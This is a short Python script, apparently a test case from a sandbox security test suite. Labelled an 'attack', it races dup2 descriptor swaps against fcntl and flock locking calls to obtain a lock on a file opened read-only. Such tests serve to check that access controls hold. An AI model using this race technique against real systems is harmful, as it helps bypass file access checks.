# SPDX-License-Identifier: Apache-2.0
# attack: a descriptor is replaced by one that may only be read while a lock is being checked
# class: own
# wins: lock
# needs: write race
from kit import *

tried()
mine = openat(F['work'] + '/file.txt', os.O_RDWR)
other = openat(BOX + '/twin.txt', os.O_RDONLY)
fd = sc('dup', mine)
lock = [struct.pack('<hhqqi4x', kind, 0, 0, 0, 0) for kind in (0, 1)]


def swap():
    sc('dup2', other, fd)
    sc('dup2', mine, fd)


end = loop_thread(swap)


def one(i):
    sc('fcntl', fd, 6, lock[i & 1])
    sc('fcntl', fd, 37, lock[i & 1])
    sc('flock', fd, 2 | 4)


rounds(one)
end()
if NATIVE:
    sc('fcntl', other, 6, lock[0])
hold()
hold()
